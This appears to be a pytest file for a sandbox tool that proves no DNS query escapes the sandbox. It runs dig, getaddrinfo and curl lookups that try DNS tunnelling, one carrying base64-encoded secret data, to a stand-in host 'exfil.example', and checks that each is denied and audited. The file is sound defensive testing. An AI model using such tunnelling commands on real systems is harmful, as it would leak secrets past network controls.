"""No DNS leaves a netns `cloakroom run`: resolving unknown names (A, AAAA, TXT tunnelling with long
labels, over UDP and TCP/53, to any server address), getaddrinfo, and names sent to the gateway in
a TLS server name, a Host header or a CONNECT for an address the agent dialed by number: none of
it reaches any resolver. Proved with a resolver the test controls: the gateway runs in a mount
namespace whose /etc/resolv.conf names a fake resolver on a loopback address of the host, which
records every query (UDP and TCP). A control query made through that same resolv.conf shows the
trap works; the sandbox's queries must not show up. The refusals are audited, without the labels
that would carry tunnelled data. Needs root (a mount namespace for the gateway, port 53)."""
import json
import os
import pathlib
import random
import shutil
import socket
import struct
import subprocess
import tempfile
import threading
import time

import pytest

from sbxlib import BIN, e2e_root, userns_works

TUNNEL = "c2VjcmV0LXNieA.x9k2q.exfil.example"  # base64 "secret-sbx" + a nonce: tunnelled data
LONG = "t" * 63
CONTROL = "cloakroom-leak-control.example"


def qname(message, offset=12):
    labels = []
    while offset < len(message) and message[offset]:
        n = message[offset]
        labels.append(message[offset + 1:offset + 1 + n].decode("ascii", "replace"))
        offset += n + 1
    return ".".join(labels).lower()


def nxdomain(query):
    # Same id and question, QR + RD + RA, RCODE 3; no answers.
    return query[:2] + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + query[12:]


class FakeResolver:
    """UDP and TCP port 53 on a fresh loopback address: records every query name."""

    def __init__(self):
        self.address = f"127.53.{random.randint(1, 254)}.{random.randint(1, 254)}"
        self.queries = []
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((self.address, 53))
        self.tcp = socket.socket()
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind((self.address, 53))
        self.tcp.listen()
        self.udp.settimeout(0.2)
        self.tcp.settimeout(0.2)
        self.stop = False
        self.threads = [threading.Thread(target=self._udp, daemon=True),
                        threading.Thread(target=self._tcp, daemon=True)]
        for t in self.threads:
            t.start()

    def _udp(self):
        while not self.stop:
            try:
                data, peer = self.udp.recvfrom(4096)
            except OSError:
                continue
            self.queries.append(("udp", qname(data)))
            self.udp.sendto(nxdomain(data), peer)

    def _tcp(self):
        while not self.stop:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    length = struct.unpack(">H", conn.recv(2))[0]
                    data = b""
                    while len(data) < length:
                        data += conn.recv(length - len(data))
                    self.queries.append(("tcp", qname(data)))
                    reply = nxdomain(data)
                    conn.sendall(struct.pack(">H", len(reply)) + reply)
                except (OSError, struct.error):
                    self.queries.append(("tcp", "?"))

    def close(self):
        self.stop = True
        for t in self.threads:
            t.join()
        self.udp.close()
        self.tcp.close()


@pytest.fixture
def trapped_gateway():
    if os.geteuid() != 0:
        pytest.skip("needs root: a mount namespace for the gateway and a resolver on port 53")
    if not userns_works():
        pytest.skip("user namespaces unavailable on this kernel")
    resolver = FakeResolver()
    base = pathlib.Path(tempfile.mkdtemp(prefix="sbxdns-"))
    (base / "resolv.conf").write_text(f"nameserver {resolver.address}\noptions attempts:1 timeout:2\n")
    (base / "secrets").mkdir(mode=0o700)
    (base / "secrets" / "api").write_text("real-secret-dns-leak-test")
    (base / "secrets" / "api").chmod(0o600)
    config = base / "cloakroom.toml"
    config.write_text(f"""
[gateway]
listen = "127.0.0.1:0"
audit_log = "{base / 'audit.jsonl'}"
data_dir = "{base / 'data'}"
[token]
key_dir = "{base / 'keys'}"
[secrets]
dir = "{base / 'secrets'}"
[[service]]
name = "api"
hosts = ["api.example.com"]
credential = {{ type = "bearer", secret = "file:api" }}
""")
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME": str(base),
           "LANG": "C.UTF-8"}
    # The gateway sees the fake resolver as the host's; so does the control lookup before it.
    wrapper = ('mount --bind "$0" /etc/resolv.conf && getent ahosts ' + CONTROL +
               ' >/dev/null; exec "$@"')
    proc = subprocess.Popen(["unshare", "--mount", "--propagation", "private", "sh", "-c", wrapper,
                             str(base / "resolv.conf"), BIN, "--config", str(config), "serve"],
                            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    lines = []
    for line in proc.stderr:
        lines.append(line)
        if "sandbox hand-over socket" in line:
            break
    else:
        resolver.close()
        pytest.fail("cloakroom serve did not start:\n" + "".join(lines))
    threading.Thread(target=lambda: lines.extend(proc.stderr), daemon=True).start()
    gw = type("Gw", (), {})()
    gw.config, gw.env, gw.resolver, gw.audit_path, gw.lines = config, env, resolver, \
        base / "audit.jsonl", lines
    yield gw
    proc.terminate()
    proc.wait(timeout=10)
    resolver.close()
    shutil.rmtree(base, ignore_errors=True)


def dig(query, server="127.0.0.1"):
    return f"echo '=== {query} @{server}'; dig @{server} +tries=1 +time=3 {query} 2>&1"


def test_no_query_reaches_any_resolver(trapped_gateway):
    gw = trapped_gateway
    fake = gw.resolver.address
    queries = [f"{TUNNEL} TXT", f"{TUNNEL} A", f"{TUNNEL} AAAA", "unknown-host.example AAAA",
               f"{LONG}.{LONG}.{LONG}.exfil.example A", "unknown-host.example HTTPS"]
    script = "\n".join(
        [dig(q) for q in queries] +
        [dig(f"{TUNNEL} TXT", fake), dig(f"udp-direct.{TUNNEL} A", fake),
         dig(f"+tcp tcp-local.{TUNNEL} TXT"), dig(f"+tcp tcp-direct.{TUNNEL} A", fake),
         dig(f"+tcp tcp-public.{TUNNEL} A", "8.8.8.8"),
         "echo '=== getaddrinfo'; python3 -c \"import socket\n"
         "try: print(socket.getaddrinfo('gai.x9k2q.exfil.example', 443))\n"
         "except OSError as e: print('failed', e)\"",
         # Names the gateway gets from the agent for an address dialed by number: a TLS server
         # name, a Host header (both to the transparent listener), a CONNECT and an absolute-form
         # request (forward proxy).
         "echo '=== sni'; curl -sS --noproxy '*' --max-time 10 --resolve "
         "sni.x9k2q.exfil.example:443:192.0.2.99 https://sni.x9k2q.exfil.example/ 2>&1",
         "echo '=== host'; curl -sS --noproxy '*' --max-time 10 -H "
         "'Host: host.x9k2q.exfil.example' http://192.0.2.99/ 2>&1",
         "echo '=== connect'; curl -sS --max-time 10 https://connect.x9k2q.exfil.example/ 2>&1",
         "echo '=== absolute'; curl -sS --max-time 10 http://absolute.x9k2q.exfil.example/ 2>&1",
         "echo '=== end'"])
    project = pathlib.Path(tempfile.mkdtemp(prefix="dns-", dir=e2e_root()))
    proc = subprocess.run([BIN, "run", "--config", str(gw.config), "--", "bash", "-c", script],
                          cwd=project, env=gw.env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr + proc.stdout
    out = {}
    for block in proc.stdout.split("=== ")[1:]:
        name, _, text = block.partition("\n")
        out[name] = text
    assert "end" in out, proc.stdout
    for name, text in out.items():
        if name.startswith(tuple(queries)) or "@" in name:
            # Answered NXDOMAIN by the gateway, or (TCP/53) closed: never an address.
            assert "ANSWER: 0" in text or "status:" not in text, (name, text)
            assert "status: NOERROR" not in text or "ANSWER: 0" in text, (name, text)
    for name in queries:
        assert "status: NXDOMAIN" in out[f"{name} @127.0.0.1"], out[f"{name} @127.0.0.1"]
    assert "status: NXDOMAIN" in out[f"{TUNNEL} TXT @{fake}"]  # redirected to the gateway's DNS
    assert "failed" in out["getaddrinfo"], out["getaddrinfo"]
    time.sleep(0.5)
    seen = list(gw.resolver.queries)
    # The trap works: the lookup made through the gateway's resolv.conf arrived...
    assert ("udp", CONTROL) in seen, seen
    # ...and nothing else ever did.
    assert [q for q in seen if q[1] != CONTROL] == [], seen

    audit = [json.loads(line) for line in gw.audit_path.read_text().splitlines() if line.strip()]
    dns = [a for a in audit if a.get("kind") == "dns"]
    assert len(dns) >= len(queries) + 2, dns
    assert all(a["decision"] == "deny" for a in dns), dns
    text = json.dumps(dns).lower()
    # Tunnelled labels never reach the audit log; the domain they were sent to does.
    for label in ("c2vjcmv0lxnieA".lower(), "x9k2q", LONG, "udp-direct", "gai."):
        assert label not in text, label
    assert any(a["host"].endswith(").exfil.example") and a["method"] == "TXT" for a in dns), dns
    # TCP/53 and the names sent by number were refused by the gateway, audited.
    refused = [a for a in audit if a.get("kind") in ("transparent", "http")
               and a.get("decision") == "deny"]
    hosts = " ".join(str(a.get("host")) for a in refused)
    assert "127.0.0.1:53" in hosts or "8.8.8.8:53" in hosts, refused
